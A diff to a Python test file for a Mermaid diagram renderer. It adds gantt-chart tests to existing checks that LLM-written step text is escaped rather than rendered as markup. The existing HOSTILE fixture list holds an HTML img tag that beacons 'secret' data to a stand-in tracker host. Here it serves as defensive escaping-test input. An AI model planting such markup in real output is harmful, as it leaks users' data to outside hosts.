@@ -1,12 +1,14 @@
-"""Mermaid output: step texts written by an LLM render as text, never as markup or directives."""
+"""Mermaid output: step texts written by an LLM render as text, never as markup or directives;
+the gantt chart's axis reads right for runs of any length and each status has its own look."""
 
 import re
+from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from planning.mermaid import escape_text, flowchart
+from planning.mermaid import escape_text, flowchart, gantt
 from planning.plan import Plan
-from planning.records import StepStatus
+from planning.records import RunRecord, RunStatus, StepRecord, StepStatus
 
 HOSTILE = [
     '<img src="https://tracker.example/p.png?d=secret">',
@@ -60,3 +62,67 @@ def test_html_entities_in_a_task_stay_entities_on_screen() -> None:
 
 def test_plain_task_text_is_left_readable() -> None:
     assert escape_text("Compute 10 times 5, then add 2.") == "Compute 10 times 5, then add 2."
+
+
+# -- gantt ---------------------------------------------------------------------------------------
+
+START = datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC)
+
+
+def record(*spans: tuple[StepStatus, float, float | None]) -> RunRecord:
+    """A run whose step i+1 ran from spans[i][1] to spans[i][2] seconds after START."""
+    steps = [
+        StepRecord(
+            id=number,
+            agent="math",
+            status=status,
+            started_at=START + timedelta(seconds=begin),
+            finished_at=START + timedelta(seconds=end) if end is not None else None,
+        )
+        for number, (status, begin, end) in enumerate(spans, start=1)
+    ]
+    plan = Plan.model_validate(
+        {"steps": [{"id": s.id, "agent": "math", "tool": "add", "args": {"a": 1, "b": 2}} for s in steps]}
+    )
+    return RunRecord(
+        id="r1", status=RunStatus.PARTIAL, request=None, engine="local", created_at=START,
+        step_count=len(steps), plan=plan, steps=steps,
+    )  # fmt: skip
+
+
+def test_a_run_under_a_minute_is_drawn_from_zero_in_seconds_and_milliseconds() -> None:
+    chart = gantt(record((StepStatus.SUCCEEDED, 0, 1.5), (StepStatus.FAILED, 1.5, 59.25)))
+
+    assert chart.splitlines() == [
+        "gantt",
+        "    title Run r1",
+        "    dateFormat x",
+        "    axisFormat %S.%L s",
+        "    section step 1",
+        "    math (succeeded) :s1, 0, 1500",
+        "    section step 2",
+        "    math (failed) :crit, s2, 1500, 59250",
+    ]
+
+
+def test_a_run_over_a_minute_is_drawn_at_its_real_times_on_a_clock_axis_that_never_wraps() -> None:
+    chart = gantt(record((StepStatus.SUCCEEDED, 0, 70), (StepStatus.SUCCEEDED, 70, 3 * 3600)))
+
+    origin = int(START.timestamp() * 1000)
+    assert "    axisFormat %H:%M:%S" in chart.splitlines()
+    assert f"    math (succeeded) :s1, {origin}, {origin + 70_000}" in chart.splitlines()
+    assert f"    math (succeeded) :s2, {origin + 70_000}, {origin + 3 * 3600 * 1000}" in chart.splitlines()
+
+
+def test_each_status_has_its_own_look_and_cancelled_is_not_drawn_like_succeeded() -> None:
+    chart = gantt(
+        record(
+            (StepStatus.SUCCEEDED, 0, 1),
+            (StepStatus.FAILED, 0, 1),
+            (StepStatus.CANCELLED, 0, 1),
+            (StepStatus.RUNNING, 0, None),
+        )
+    )
+
+    bars = [line.split(":", 1)[1].split("s", 1)[0] for line in chart.splitlines() if " :" in line]
+    assert bars == ["", "crit, ", "done, ", "active, "]
